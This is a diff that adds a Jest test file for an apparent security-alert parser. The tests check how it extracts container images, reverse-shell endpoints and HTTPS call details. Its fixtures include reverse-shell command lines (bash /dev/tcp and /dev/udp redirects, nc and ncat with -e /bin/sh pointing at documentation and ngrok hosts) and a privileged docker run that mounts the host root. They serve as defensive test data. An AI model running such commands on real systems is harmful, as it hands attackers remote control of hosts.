@@ -1,0 +1,153 @@
+import { describe, expect, it, test } from '@jest/globals';
+import type { JsonObject } from '../../src/types.ts';
+import { payloadOf, read } from './harness.ts';
+
+const containerOf = (...args: string[]) =>
+  read(payloadOf('Privileged-Container', { process_events: [{ exe: '/usr/bin/docker', arguments: args }] }))
+    .container;
+const shellOf = (event: JsonObject, over = {}) =>
+  read(payloadOf('Reverse-Shell', { process_events: [event] }), over).endpoint;
+
+describe('the image of a container', () => {
+  const digest = `sha256:${'ab'.repeat(32)}`;
+  test.each<[string[], object]>([
+    [['docker', 'run', 'alpine'], { image_name: 'alpine' }],
+    [['run', 'alpine:3.20', 'sh'], { image_name: 'alpine', image_tags: ['3.20'] }],
+    [
+      [
+        'docker',
+        'run',
+        '--privileged',
+        '--cap-add=ALL',
+        '-v',
+        '/:/host',
+        'raesene/ncat:latest',
+        'h.example',
+        '17658',
+      ],
+      { image_name: 'raesene/ncat', image_tags: ['latest'] },
+    ],
+    [['docker', 'run', '-it', '--rm', 'alpine', 'sh'], { image_name: 'alpine' }],
+    [['docker', 'run', '-itv', '/:/host', 'alpine', 'sh'], { image_name: 'alpine' }],
+    [['docker', 'run', '-itu', 'root', 'alpine', 'sh'], { image_name: 'alpine' }],
+    [['docker', 'run', '-itv/:/host', 'alpine', 'sh'], { image_name: 'alpine' }],
+    [['docker', 'run', '-v/:/host', 'alpine', 'sh'], { image_name: 'alpine' }],
+    [['docker', 'run', '--name', 'x', '--pid=host', 'alpine'], { image_name: 'alpine' }],
+    [['docker', 'run', '--rm', '--', 'alpine'], { image_name: 'alpine' }],
+    [
+      ['docker', 'create', `reg.example:5000/a/b:1@${digest}`],
+      { image_name: 'reg.example:5000/a/b', image_tags: ['1'], image_digests: [digest] },
+    ],
+    [['docker', 'ps'], {}],
+    [['docker', 'run'], {}],
+    [['docker', 'run', '--rm', 'Not An Image'], {}],
+  ])('%j', (args, image) => {
+    expect(containerOf(...args)).toEqual({ runtime: 'docker', ...image });
+  });
+
+  it('is left out where arguments are one text, and there is no container without a runtime', () => {
+    const event = (exe: string) => ({ exe, arguments: 'docker run alpine' });
+    const of = (exe: string) =>
+      read(payloadOf('Privileged-Container', { process_events: [event(exe)] })).container;
+    expect(of('podman')).toEqual({ runtime: 'podman' });
+    expect(of('/bin/bash')).toBeUndefined();
+  });
+});
+
+describe('the far end of a reverse shell', () => {
+  test.each<[string, JsonObject, object]>([
+    [
+      'netcat',
+      {
+        exe: '/usr/local/bin/ncat',
+        arguments: ['/usr/local/bin/ncat', '0.tcp.us-cal-1.ngrok.io', '17658', '-e', '/bin/bash'],
+      },
+      { domain: '0.tcp.us-cal-1.ngrok.io', port: 17_658 },
+    ],
+    [
+      'without its own name in the list',
+      { exe: '/bin/nc', arguments: ['203.0.113.9', '4444', '-e', '/bin/sh'] },
+      { ip: '203.0.113.9', port: 4_444 },
+    ],
+    [
+      'with flags before',
+      { exe: 'nc', arguments: ['nc', '-nv', '-w', '3', '-e', '/bin/sh', '203.0.113.9', '4444'] },
+      { ip: '203.0.113.9', port: 4_444 },
+    ],
+    ['IPv6', { exe: 'nc', arguments: ['nc', '2001:db8::9', '4444'] }, { ip: '2001:db8::9', port: 4_444 }],
+    [
+      'bash',
+      { exe: '/bin/bash', arguments: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] },
+      { ip: '203.0.113.9', port: 4_444 },
+    ],
+    [
+      'bash in one text',
+      { exe: '/bin/bash', arguments: 'bash -i >& /dev/udp/c2.example/53 0>&1' },
+      { domain: 'c2.example', port: 53 },
+    ],
+  ])('%s', (_, event, expected) => {
+    expect(shellOf(event)).toMatchObject(expected);
+  });
+
+  test.each<[string, JsonObject]>([
+    ['a listener', { exe: 'nc', arguments: ['nc', '-lvp', '4444'] }],
+    ['a listener with a long flag', { exe: 'ncat', arguments: ['ncat', '--listen', '0.0.0.0', '4444'] }],
+    ['a port alone', { exe: 'nc', arguments: ['nc', '4444'] }],
+    ['a port that is none', { exe: 'nc', arguments: ['nc', 'c2.example', '99999'] }],
+    ['a variable', { exe: 'bash', arguments: 'bash -i >& /dev/tcp/$HOST/4444' }],
+    ['another program', { exe: '/bin/cat', arguments: ['cat', 'c2.example', '4444'] }],
+    ['no arguments', { exe: 'nc' }],
+  ])('is not guessed: %s', (_, event) => {
+    expect(shellOf(event)).toBeUndefined();
+  });
+
+  it('gives way to an endpoint in the payload, and can be turned off', () => {
+    const event = { exe: 'nc', arguments: ['nc', '203.0.113.9', '4444'] };
+    expect(shellOf(event, { deriveDestination: false })).toBeUndefined();
+    const said = read(payloadOf('Reverse-Shell', { process_events: [event], endpoint: 'said.example:1' }));
+    expect(said.endpoint?.domain).toBe('said.example');
+  });
+});
+
+describe('an HTTPS call', () => {
+  const httpOf = (fields: JsonObject) => read(payloadOf('HTTPS-Outbound-Network-Call', fields));
+  it('is read whole', () => {
+    const { http, direction, file } = httpOf({
+      host: 'API.github.com',
+      method: 'POST',
+      path: '/a/b?x=1&y=2',
+    });
+    expect(http).toEqual({
+      method: 'POST',
+      domain: 'api.github.com',
+      path: '/a/b',
+      query: 'x=1&y=2',
+      original: '/a/b?x=1&y=2',
+      full: 'https://api.github.com/a/b?x=1&y=2',
+    });
+    expect([direction, file]).toEqual(['egress', undefined]);
+  });
+  it('does without what is missing or strange', () => {
+    expect(httpOf({ host: 'a.example:8443' }).http).toEqual({
+      domain: 'a.example',
+      full: 'https://a.example:8443',
+      port: 8_443,
+    });
+    expect(httpOf({ host: '*.example', path: 'x' }).http).toEqual({ path: 'x', original: 'x' });
+    const strange = httpOf({ host: 'a.example', method: 'GET / HTTP', path: 'x' });
+    expect(strange.http).toEqual({
+      domain: 'a.example',
+      path: 'x',
+      original: 'x',
+      full: 'https://a.example/x',
+    });
+    expect(strange.warnings).toEqual(['bad_method']);
+  });
+});
+
+test('a broken agent cannot fill an index', () => {
+  const process_events = Array.from({ length: 5_000 }, (_, pid) => ({ pid }));
+  const detection = read(payloadOf('Reverse-Shell', { process_events }));
+  expect(detection.process_events).toHaveLength(100);
+  expect(detection.warnings).toEqual(['process_events_capped']);
+});
